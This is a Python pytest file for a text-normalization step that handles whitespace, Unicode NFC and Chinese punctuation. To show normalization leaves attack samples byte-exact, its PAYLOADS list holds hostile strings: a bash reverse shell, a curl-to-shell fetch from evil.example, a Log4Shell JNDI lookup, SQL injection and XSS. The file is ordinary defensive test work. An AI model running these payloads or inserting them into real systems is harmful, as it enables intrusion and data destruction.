"""normalize: NFC and whitespace in prose; Chinese punctuation full-width; payloads byte-exact."""

from __future__ import annotations

import random
import unicodedata

import pytest

from qianmo.quality import Normalize, normalize_text
from qianmo.quality._normalize import _clean, _normalize
from qianmo.quality._step import StepStats
from tests.helpers.records import make_record

PAYLOADS = [
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "curl -s http://evil.example/x.sh | sh",
    "d41d8cd98f00b204e9800998ecf8427e",
    "${jndi:ldap://attacker.example/a}",
    "admin'--  ;  DROP TABLE users;",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_survive_byte_exact(payload: str) -> None:
    assert payload in normalize_text(f"The attacker sent {payload} to the server.")
    assert normalize_text(payload) == payload


def test_code_blocks_are_untouched() -> None:
    block = "```\nx  =  1\t# spaced\r\n\x07bell\n```"
    text = f"Look:   here\n{block}\nend"
    out = normalize_text(text)
    assert block in out
    assert out.startswith("Look: here")


def test_nfc_not_nfkc_keeps_chinese_punctuation_full_width() -> None:
    decomposed = "cafe\u0301"
    assert normalize_text(decomposed) == unicodedata.normalize("NFC", decomposed)
    zh = "漏洞（CVE-2021-44228）影响范围：广泛，请尽快修复。"
    assert normalize_text(zh) == zh


def test_half_width_punctuation_in_chinese_prose_becomes_full_width() -> None:
    assert normalize_text("攻击者可以,利用该漏洞:执行代码") == "攻击者可以，利用该漏洞：执行代码"
    # but not in English or between ASCII
    assert normalize_text("a,b: c") == "a,b: c"


def test_controls_whitespace_and_full_width_alnum() -> None:
    text = "Hello\x00   world\u00a0\u00a0again  \n\n\n\nＣＶＥ１２３\r\nend\ufeff"
    assert normalize_text(text) == "Hello world again\n\nCVE123\nend"


def test_step_changes_once_and_leaves_code_kind_alone() -> None:
    rec = make_record(content={"text": "Too   many    spaces here, friend."})
    step, stats = Normalize(), StepStats("normalize")
    assert step.run(rec, stats, "r1").changed
    assert rec.content["text"] == "Too many spaces here, friend."
    assert rec.lineage.steps[-1].name == "normalize"
    assert not step.run(rec, stats, "r1").changed
    code = make_record("code", content={"language": "c", "code": "int  x;\x00", "label": "benign"})
    assert not step.run(code, stats, "r1").changed
    assert stats.seen == 3 and stats.changed == 1


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("clean prose, nothing to do.", "clean prose, nothing to do."),
        ("trailing space \nnext", "trailing space\nnext"),
        ("ends with a space ", "ends with a space"),
        ("\nleading newline", "leading newline"),
        ("two  spaces", "two spaces"),
        ("漏洞,利用", "漏洞，利用"),
        ("ＡＢＣ１２３", "ABC123"),
        ("cafe\u0301", "café"),
        ("line\r\nbreak", "line\nbreak"),
        ("bell\x07", "bell"),
    ],
)
def test_the_clean_text_shortcut_misses_nothing(text: str, expected: str) -> None:
    # each case fails exactly one of the shortcut's tests, so it must take the full path
    assert normalize_text(text) == expected


@pytest.mark.parametrize("seed", range(4))
def test_texts_the_shortcut_calls_clean_are_unchanged_by_the_full_path(seed: int) -> None:
    # `_clean` restates `_prose`'s rules as cheap tests; this catches the two drifting apart
    rng = random.Random(seed)
    pieces = [
        "word",
        " ",
        "  ",
        "\n",
        "\n\n\n",
        "\t",
        "\r",
        "漏洞",
        ",",
        "：",
        "Ａ",
        "１",
        "e\u0301",
    ]
    pieces += ["```\na  b\n```"]
    clean = 0
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 8)))
        if _clean(text):
            clean += 1
            assert _normalize(text) == text, repr(text)
    assert clean > 100  # the property was exercised, not vacuously true
